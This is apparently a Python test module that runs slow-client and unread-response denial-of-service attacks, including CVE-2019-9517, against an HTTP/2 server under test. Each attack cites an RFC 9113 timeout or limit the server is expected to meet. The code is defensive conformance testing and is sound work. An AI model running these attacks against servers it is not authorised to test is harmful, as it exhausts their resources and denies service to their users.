"""HTTP/2 that comes slowly or not at all, or is not read, while the server holds something for it."""

import http2
from calls import call, data, headers, message, request
from contract import LIST_RULES, RULES_REQUEST
from frame_slow import end, trickle
from harness import attack
from http2 import Http2Link

LATE = ("goaway SETTINGS_TIMEOUT", "goaway NO_ERROR", "goaway PROTOCOL_ERROR", "closed")


@attack("http2", "h2-half-preface", *LATE, connections=50, seconds_min=10)
def half_preface(attempt):
    """RFC 9113 section 3.4: a preface that comes a byte each second; it must be there within five."""
    link = attempt.link(Http2Link)
    trickle(attempt, link, http2.PREFACE, 1.0)
    return end(link)


@attack("http2", "h2-preface-then-nothing", *LATE, connections=50, seconds_min=10)
def preface_then_nothing(attempt):
    """RFC 9113 section 3.4: a preface, or a part of it, without SETTINGS; they must be there within five seconds."""
    link = attempt.link(Http2Link)
    link.send(attempt.random.choice((http2.PREFACE, http2.PREFACE[:10], http2.PREFACE + http2.settings()[:5])))
    link.wait(lambda: link.goaway, attempt.left())
    return end(link)


@attack("http2", "h2-settings-then-nothing", "open", connections=500)
def settings_then_nothing(attempt):
    """RFC 9113 section 9.1: connections that ask for nothing; they may stay for five minutes, and must cost little."""
    link = attempt.link(Http2Link).open()
    link.wait_closed(attempt.left())
    return link.settle()


@attack("http2", "h2-headers-then-nothing", "open", "goaway *", "status *", "reset *", connections=20)
def headers_then_nothing(attempt):
    """RFC 9113 section 10.5: 100 calls on each connection of which only the headers come."""
    link = attempt.link(Http2Link).open()
    link.send(b"".join(headers(stream, request()) for stream in range(1, 201, 2)), 100)
    link.wait_closed(attempt.left())
    return link.settle()


@attack("http2", "h2-request-never-complete", "status 4", "reset *", "goaway *", connections=4, seconds_min=34)
def request_never_complete(attempt):
    """RFC 9113 section 10.5: a call of which the last byte is missing is ended after 30 seconds."""
    link = attempt.link(Http2Link).open()
    link.send(headers(1, request()) + data(1, message(b"x", length=2)), 2)
    link.wait(lambda: link.goaway or link.outcome_of(1), attempt.left())
    return link.outcome_of(1) or link.settle()


@attack("http2", "h2-body-trickled", "open", "status *", "reset *", "goaway *", connections=20, seconds_min=6)
def body_trickled(attempt):
    """RFC 9113 section 10.5: a message of 4 MiB that comes in frames of one byte."""
    link = attempt.link(Http2Link).open()
    link.send(headers(1, request()) + data(1, message(b"", length=4_194_304)), 2)
    while attempt.pause(0.02) and not link.outcome_of(1) and link.send(data(1, b"x")):
        link.read(0)
    return link.outcome_of(1) or link.settle()


@attack("http2", "h2-header-block-trickled", "closed", "goaway *", "open", connections=50, seconds_min=6)
def header_block_trickled(attempt):
    """RFC 9113 section 10.5: a header block that comes byte by byte, and is not complete."""
    link = attempt.link(Http2Link).open()
    trickle(attempt, link, headers(1, request())[:60], 0.2)
    return end(link)


@attack("http2", "h2-answers-never-read", "held back", "closed", "open", "goaway *", connections=16, seconds_min=6)
def answers_never_read(attempt):
    """CVE-2019-9517; RFC 9113 section 10.5: a window as wide as can be, large answers, and a socket that is never read."""
    link = attempt.link(Http2Link, receive_bytes=4_096)
    link.open((http2.INITIAL_WINDOW_SIZE, http2.WINDOW_MAX))
    link.send(http2.window_update(0, http2.WINDOW_MAX - 65_535))
    for first in range(1, 1_000_001, 100):
        calls = b"".join(call(stream, LIST_RULES, RULES_REQUEST) for stream in range(first, first + 100, 2))
        if not attempt.goes_on() or not link.send(calls, 100, reading=False, patience=2):
            break
    while attempt.pause(0.5):
        pass
    return "held back" if link.is_held_back else end(link)
